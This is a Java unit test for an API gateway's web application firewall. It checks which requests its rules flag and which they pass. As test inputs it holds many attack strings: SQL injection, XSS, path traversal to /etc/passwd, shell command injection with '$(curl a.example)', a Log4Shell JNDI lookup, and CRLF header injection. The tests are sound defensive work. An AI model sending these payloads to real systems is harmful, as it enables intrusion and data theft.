package dev.ashlar.gateway.firewall;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.mock.web.MockHttpServletRequest;

class FirewallRulesTest {

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '^', value = {
            "PROPFIND | /api/v1/products | method-enforcement | true",
            "get | /health | method-enforcement | true",
            "PURGE | / | method-enforcement | true",
            "PATCH | /api/v1/products/1 | method-enforcement | false",
            "PROPFIND | /open/files | method-enforcement | false",
            "GET | /api/v1/products/../emails | attack-lfi-path-traversal | true",
            "GET | /api/v1/products/.. | attack-lfi-path-traversal | true",
            "GET | /api/v1/products/%2E%2e/emails | attack-lfi-path-traversal | true",
            "GET | /api/v1/products/..;/emails | attack-lfi-path-traversal | true",
            "GET | /api/v1/products/..%5cemails | attack-lfi-path-traversal | true",
            "GET | /api/v1/products/a..b | attack-lfi-path-traversal | false",
            "GET | /open/../a | attack-lfi-path-traversal | false",
            "GET | /api/v1//emails | protocol-enforcement-path | true",
            "GET | /api/v1/products/%2Femails | protocol-enforcement-path | true",
            "GET | /api/v1/products/%252f | protocol-enforcement-path | true",
            "GET | /api/v1/products/%00 | protocol-enforcement-path | true",
            "GET | /api/v1/products/%zz | protocol-enforcement-path | true",
            "GET | /api/v1/products/% | protocol-enforcement-path | true",
            "GET | /api/v1/products;a=b | protocol-enforcement-path | true",
            "GET | /api/v1/products/caf%C3%A9 | protocol-enforcement-path | false",
            "GET | /open//a;b=1/%2f | protocol-enforcement-path | false",
            "GET | /.env | scanner-detection-path | true",
            "GET | /shop/.git/config | scanner-detection-path | true",
            "GET | /WP-Login.php | scanner-detection-path | true",
            "GET | /api/v1/environment | scanner-detection-path | false",
            "GET | /products/wp-bracket | scanner-detection-path | false"})
    void matchesByMethodAndPath(String method, String path, String rule, boolean expected) {
        assertThat(matching(new MockHttpServletRequest(method, path)).contains(rule)).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', quoteCharacter = '^', value = {
            "q=1%27%20OR%20%271%27=%271                 | attack-sqli",
            "q=1+union+all+select+password              | attack-sqli",
            "q=1/**/UNION/*x*/SELECT/**/1               | attack-sqli",
            "q=1%3B%20DROP%20TABLE%20users              | attack-sqli",
            "q=pg_sleep(5)                              | attack-sqli",
            "q=%3Cscript%3Ealert(1)%3C/script%3E        | attack-xss",
            "q=%3Cimg%20src=x%20onerror=alert(1)%3E     | attack-xss",
            "next=javascript:alert(1)                   | attack-xss",
            "file=../../../../etc/hosts                 | attack-lfi-file-access",
            "file=%2e%2e%2f%2e%2e%2fa                   | attack-lfi-file-access",
            "file=/etc/passwd                           | attack-lfi-file-access",
            "host=a;cat%20/etc/hosts                    | attack-rce",
            "host=$(curl%20a.example)                   | attack-rce",
            "q=%24%7Bjndi:ldap://a.example/b%7D         | attack-java",
            "q=a%0d%0aSet-Cookie:%20a=b                 | attack-protocol"})
    void matchesASignatureInTheQuery(String query, String rule) {
        assertThat(matching(query(query))).contains(rule);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "q=o'neil", "q=select+or+union", "q=drop+table+lamp", "q=rock+%26+roll", "q=50%25+off",
            "q=sleeping+bag", "q=%3C3+hearts", "q=C%2B%2B+in+a+nutshell", "q=script+font", "q=a+--+b", "q=price+$(5)",
            "sort=-price&limit=100&cursor=eyJhIjoxfQ", "q=benchmark+lamp", "q=java.lang", "q=etc+and+passwd",
            "q=%ff%zz%", "q=1/*2", "min_price=10&max_price=20", "q=Приложение"})
    void matchesNoOrdinaryQuery(String query) {
        assertThat(matching(query(query))).isEmpty();
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {
            "User-Agent   | sqlmap/1.7.2#stable (https://sqlmap.org)      | scanner-detection-agent | true",
            "User-Agent   | Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)    | scanner-detection-agent | true",
            "User-Agent   | Mozilla/5.0 (X11; Linux x86_64) Chrome/140.0  | scanner-detection-agent | false",
            "User-Agent   | curl/8.5.0                                    | scanner-detection-agent | false",
            "User-Agent   | ${jndi:ldap://a.example/b}                    | attack-java             | true",
            "Referer      | https://a.example/${lower:j}ndi               | attack-java             | true",
            "User-Agent   | Agent ${version}                              | attack-java             | false",
            "Content-Type | application/x-java-serialized-object          | protocol-enforcement-content-type | true",
            "Content-Type | text/xml; charset=utf-8                       | protocol-enforcement-content-type | true",
            "Content-Type | application/json; charset=utf-8               | protocol-enforcement-content-type | false",
            "Content-Type | image/png                                     | protocol-enforcement-content-type | false"})
    void matchesByHeader(String header, String value, String rule, boolean expected) {
        var request = query("");
        request.addHeader(header, value);

        assertThat(matching(request).contains(rule)).isEqualTo(expected);
    }

    @Test
    void letsScannersUseOtherRoutes() {
        var request = new MockHttpServletRequest("GET", "/open/a");
        request.addHeader("User-Agent", "sqlmap/1.7");

        assertThat(matching(request)).isEmpty();
    }

    @Test
    void boundsTheNumberAndTheLengthOfParameters() {
        assertThat(matching(query("a=1&".repeat(63) + "a=1"))).isEmpty();
        assertThat(matching(query("a=1&".repeat(64) + "a=1"))).containsExactly("protocol-enforcement-parameters");
        assertThat(matching(query("a=" + "b".repeat(4_094)))).isEmpty();
        assertThat(matching(query("a=" + "b".repeat(4_095)))).containsExactly("protocol-enforcement-parameters");
        assertThat(matching(query("a=" + "b".repeat(4_095) + "&c=1")))
                .containsExactly("protocol-enforcement-parameters");
    }

    @Test
    void givesEachRuleItsOwnId() {
        assertThat(FirewallRules.ALL.stream().map(FirewallRule::id)).doesNotHaveDuplicates()
                .allMatch(id -> id.matches("[a-z-]+"));
    }

    private static MockHttpServletRequest query(String query) {
        var request = new MockHttpServletRequest("GET", "/api/v1/products");
        request.setQueryString(query);
        return request;
    }

    private static List<String> matching(MockHttpServletRequest request) {
        var inspected = new InspectedRequest(request);
        return FirewallRules.ALL.stream().filter(rule -> rule.matches().test(inspected)).map(FirewallRule::id).toList();
    }
}
